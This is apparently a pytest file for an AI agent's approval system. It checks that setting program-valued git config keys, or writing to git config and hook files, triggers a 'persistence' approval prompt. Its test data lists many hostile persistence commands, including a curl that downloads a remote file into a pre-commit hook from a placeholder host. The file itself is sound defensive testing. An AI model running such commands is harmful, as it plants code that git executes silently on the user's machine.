"""Issue 29, class 3: setting a git config key whose value is a program git runs later
(fsmonitor, pager, hooksPath, sshCommand, credential helpers, filter/diff/merge drivers,
aliases, include paths) asks under `persistence` at level 4 in every spelling; so does
editing a git config file (`.git/config`, `~/.gitconfig`, `.gitmodules`, `.config/git/`)
with any tool — shell redirection, `sed -i`, `tee`, the file tools. Reading config and
setting harmless keys stay ordinary.
"""

from __future__ import annotations

import subprocess
from pathlib import Path
from typing import Any

import pytest

from atomic_agent.api import ApprovalAnswer
from tests.plugins.os.fs_kit import FsWorld
from tests.plugins.os.shell_kit import shell, shell_world

PERSISTENCE = "persistence"

SET_PROGRAM = [
    "git config core.fsmonitor ./evil", "git config core.FSMonitor ./evil", "git config Core.fsmonitor ./evil",
    "git config --local core.pager 'sh -c evil'", "git config --global core.pager ./evil",
    "git config --add core.hooksPath /tmp/hooks", "git config --replace-all core.sshCommand ./evil",
    "git config --file .git/config core.fsmonitor ./evil", "git config -f .git/config core.pager ./evil",
    "git config --file=.git/config credential.helper '!evil'", "git config set core.fsmonitor ./evil",
    "git config set --global core.pager ./evil", "git config filter.x.clean ./evil", "git config filter.x.smudge evil",
    "git config filter.lfs.process evil", "git config diff.pdf.textconv ./evil", "git config diff.external ./evil",
    "git config merge.ours.driver ./evil", "git config credential.https://x.example.helper evil",
    "git config alias.st '!evil'", "git config include.path ../evil.cfg", "git config includeIf.gitdir:~/.path x",
    "git config remote.origin.uploadpack ./evil", "git config gpg.program ./evil", "git config pager.log ./evil",
    "git config core.editor ./evil", "git config --edit", "git -c core.pager=./evil log",
    "git -c core.fsmonitor=./evil status", "git --config-env=core.sshCommand=EVIL fetch",
    "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=./evil git log",
    "env GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0=./evil git status",
    "sh -c 'git config core.fsmonitor ./evil'", "cd sub && git config core.pager ./evil",
]
EDIT_CONFIG = [
    "echo '[core] fsmonitor = ./evil' >> .git/config", "printf '[core]\\n\\tpager = evil\\n' > .git/config",
    "sed -i 's/x/y/' .git/config", "sed -i.bak -e 's/x/y/' .git/config", "tee -a .git/config < x",
    "cat x >> ~/.gitconfig", "tee ~/.config/git/config < x", "echo '[submodule \"a\"]' >> .gitmodules",
    "cp evil.cfg .git/config", "mv evil.cfg .git/config", "install -m 644 evil .git/hooks/pre-commit",
    "cp -t .git/hooks evil", "ln -sf /tmp/evil .git/hooks/post-checkout", "perl -pi -e 's/x/y/' .git/config",
    "curl -o .git/hooks/pre-commit https://x.example/h", "dd of=.git/config if=x",
]
ORDINARY = ["git config core.pager", "git config --get core.fsmonitor", "git config --list", "git config -l",
            "git config user.name Bob", "git config --global user.email b@x.example", "git log -1", "cat .git/config",
            "git config get core.pager"]


@pytest.fixture()
def world(tmp_path: Path, monkeypatch: Any) -> FsWorld:
    built = shell_world(tmp_path, monkeypatch, level=4)
    subprocess.run(["git", "init", "-q", str(built.ws)], check=True, capture_output=True)
    (built.ws / "sub").mkdir()
    (built.ws / "x").write_text("[core]\n")
    return built


@pytest.mark.parametrize("line", SET_PROGRAM)
async def test_setting_a_program_valued_git_key_asks_under_persistence_at_level_4(world: FsWorld, line: str):
    outcome = await shell(world, line)
    assert outcome.asked == (PERSISTENCE,) and not outcome.ran, outcome
    config = (world.ws / ".git" / "config").read_text()
    assert "evil" not in config


@pytest.mark.parametrize("line", EDIT_CONFIG)
async def test_editing_a_git_config_file_from_the_shell_asks_under_persistence(world: FsWorld, line: str):
    outcome = await shell(world, line)
    assert outcome.asked == (PERSISTENCE,) and not outcome.ran, outcome


@pytest.mark.parametrize("line", ORDINARY)
async def test_reading_config_and_harmless_keys_stay_ordinary_at_level_4(world: FsWorld, line: str):
    outcome = await shell(world, line)
    assert outcome.asked == () and outcome.ran, outcome


@pytest.mark.parametrize("path", [".git/config", ".gitmodules", "~/.gitconfig", "~/.config/git/config",
                                  "sub/.git/config"])
async def test_the_file_tools_writing_git_config_ask_under_persistence(world: FsWorld, path: str):
    world.asker.answers.append(ApprovalAnswer.deny())
    result = await world.call("os.fs.write", {"path": path, "content": "[core]\n\tfsmonitor = ./evil\n"})
    assert world.asker.categories[-1:] == [PERSISTENCE] and result.status == "error"
